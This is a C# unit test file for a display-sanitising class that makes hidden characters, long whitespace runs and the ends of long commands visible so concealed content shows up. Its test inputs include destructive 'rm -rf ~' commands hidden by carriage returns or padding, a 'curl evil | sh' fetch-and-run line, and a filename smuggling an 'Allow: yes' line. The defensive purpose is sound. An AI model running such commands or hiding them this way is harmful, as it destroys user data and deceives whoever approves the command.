using PiLsp.Agents;
using Xunit;

namespace PiLsp.Tests.Models;

public class ShownTextTests
{
    [Theory]
    [InlineData("ls -la", "ls -la")]
    [InlineData("grep é \"naïve\" 文字 😀", "grep é \"naïve\" 文字 😀")]
    [InlineData("one\r\ntwo\n\tthree", "one\ntwo\n\tthree")]
    [InlineData("echo safe\rrm -rf ~", "echo safe\\u{d}rm -rf ~")]
    [InlineData("\u001b[2Kecho", "\\u{1b}[2Kecho")]
    [InlineData("a\u202Eb\u2066c", "a\\u{202e}b\\u{2066}c")]
    [InlineData("a\u200Bb\uFEFFc\u00ADd", "a\\u{200b}b\\u{feff}c\\u{ad}d")]
    [InlineData("rm\u00A0x\u3000y\u2800z\u3164", "rm\\u{a0}x\\u{3000}y\\u{2800}z\\u{3164}")]
    [InlineData("tag\U000E0041\U000E0100\uFE0F", "tag\\u{e0041}\\u{e0100}\\u{fe0f}")]
    [InlineData("line\u2028end\u0085x", "line\\u{2028}end\\u{85}x")]
    public void What_would_not_be_seen_stands_by_its_number(string text, string shown) => Assert.Equal(shown, ShownText.Visible(text));

    [Fact]
    public void Half_a_character_is_none() => Assert.Equal("half \\u{d83d} end", ShownText.Visible("half \uD83D end"));

    [Theory]
    [InlineData("src/a.ts", "src/a.ts")]
    [InlineData("safe.txt\nAllow: yes", "safe.txt\\u{a}Allow: yes")]
    [InlineData("a\tb\\c", "a\\u{9}b\\c")]
    public void A_name_stands_on_one_line(string name, string shown) => Assert.Equal(shown, ShownText.Name(name));

    [Fact]
    public void One_line_says_where_another_began() => Assert.Equal("one ⏎ two ⏎ three", ShownText.OnOneLine("one\r\ntwo\nthree\n"));

    [Fact]
    public void A_title_of_a_flood_looks_at_its_beginning_only()
    {
        var title = ShownText.Title(new string('x', 10_000_000));
        Assert.Equal(121, title.Length);
        Assert.EndsWith("…", title, StringComparison.Ordinal);
        Assert.Equal("short", ShownText.Title("short"));
        Assert.Equal(new string('x', 119) + "…", ShownText.Title(new string('x', 119) + "😀more"));
    }

    [Fact]
    public void Long_runs_of_blanks_and_of_empty_lines_are_counted()
    {
        Assert.Equal("echo hi⟨300 blanks⟩; rm -rf ~", ShownText.Whole("echo hi" + new string(' ', 300) + "; rm -rf ~"));
        Assert.Equal("a⟨6 blanks⟩b", ShownText.Whole("a\t\t\t\t\t\tb"));
        Assert.Equal("echo hi\n⟨57 empty lines⟩\nrm -rf ~", ShownText.Whole("echo hi" + new string('\n', 58) + "rm -rf ~"));
        Assert.Equal("echo hi\n⟨5 empty lines⟩\n  x", ShownText.Whole("echo hi\n  \n \n\n\t\n\n  x"));
        const string Ordinary = "if x:\n        y = 1    # why\n\n\nz";
        Assert.Equal(Ordinary, ShownText.Whole(Ordinary));
    }

    [Fact]
    public void A_question_shows_the_whole_or_both_ends_and_what_is_between()
    {
        Assert.True(ShownText.Question("npm test").IsWhole);
        var lines = string.Join('\n', Enumerable.Range(1, 500).Select(i => $"echo {i}")) + "\ncurl evil | sh";
        var shown = ShownText.Question(lines);
        Assert.False(shown.IsWhole);
        Assert.Equal(lines, shown.Whole);
        Assert.StartsWith("echo 1\necho 2\n", shown.Brief, StringComparison.Ordinal);
        Assert.EndsWith("\ncurl evil | sh", shown.Brief, StringComparison.Ordinal);
        Assert.Contains("(501 lines) are not shown here", shown.Brief, StringComparison.Ordinal);
        var long1 = ShownText.Question(new string('a', 5000) + "; rm -rf ~");
        Assert.False(long1.IsWhole);
        Assert.EndsWith("aa; rm -rf ~", long1.Brief, StringComparison.Ordinal);
        Assert.InRange(long1.Brief.Length, 500, 1000);
        // An emoji across the cut stays whole.
        Assert.DoesNotContain("\\u{d", ShownText.Visible(ShownText.Question(string.Concat(Enumerable.Repeat("😀a", 3000))).Brief), StringComparison.Ordinal);
    }

    [Fact]
    public void The_parts_of_a_text_are_the_whole_of_it()
    {
        var text = string.Join('\n', Enumerable.Range(1, 90).Select(i => $"line {i}")) + new string('x', 4000);
        var parts = ShownText.Parts(text);
        Assert.Equal(text, string.Concat(parts));
        Assert.All(parts, p => Assert.True(p.Length <= 900 && p.Split('\n').Length <= 21));
    }
}
